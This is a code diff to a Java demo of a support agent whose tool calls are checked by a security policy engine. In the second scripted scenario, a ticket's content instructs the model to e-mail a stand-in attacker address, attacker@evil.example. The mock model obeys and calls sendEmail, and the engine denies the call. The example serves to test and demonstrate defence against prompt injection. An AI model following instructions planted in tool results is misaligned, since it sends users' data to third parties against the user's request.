@@ -72,23 +72,23 @@ public class LangChain4jSupportAgent {
         // (a) the user's task: read ticket 4711, e-mail Bob
         .callTool("getTicket", "{\"id\":\"4711\"}")
         .callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
-            + "\"body\":\"The printer is being fixed.\"}")
+            + "\"body\":\"Hi Bob, the printer on floor 3 jams; it is being fixed.\"}")
         .answer("Done: Bob has the summary.")
         // (b) ticket 4712 tells the model to mail someone else, and the model obeys
         .callTool("getTicket", "{\"id\":\"4712\"}")
         .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"Ticket 4712\","
-            + "\"body\":\"The printer is being fixed.\"}")
+            + "\"body\":\"Hi, the printer jams; it is being fixed.\"}")
         .answer("I could not send that e-mail.");
     TicketTools tools = new TicketTools();
     try (ApeEngine engine = ApeEngine.fromPolicy(
         Path.of(args.length > 0 ? args[0] : "support.yaml"))) {
       LangChain4jSupportAgent agent = new LangChain4jSupportAgent(engine, model, tools);
 
-      System.out.println(agent.answer("alice", "Read ticket 4711 and e-mail bob@acme.com the"
-          + " subject \"Ticket 4711\" and the text \"The printer is being fixed.\""));
+      System.out.println(agent.answer("alice", "Read ticket 4711 and e-mail bob@acme.com"
+          + " a short summary."));
       // Done: Bob has the summary.
-      System.out.println(agent.answer("alice", "Read ticket 4712 and e-mail bob@acme.com the"
-          + " subject \"Ticket 4712\" and the text \"The printer is being fixed.\""));
+      System.out.println(agent.answer("alice", "Read ticket 4712 and e-mail bob@acme.com"
+          + " a short summary."));
       // I could not send that e-mail.
       System.out.println(model.lastToolResult());
       // APE denied this tool call: it is not permitted by the security policy.
